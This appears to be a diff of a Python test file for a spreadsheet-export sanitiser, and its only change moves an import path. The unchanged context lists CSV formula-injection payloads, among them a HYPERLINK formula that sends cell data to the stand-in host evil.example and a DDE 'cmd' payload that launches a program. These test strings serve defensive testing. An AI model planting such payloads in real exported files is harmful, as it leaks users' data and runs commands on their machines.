@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 from courtroom.log.export import FORMULA_STARTS, export_run, spreadsheet_safe
-from tests.attacks import pseudo_run
+from tests.helpers.runs import pseudo_run
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
             "\tTAB=1", "\r=1"]
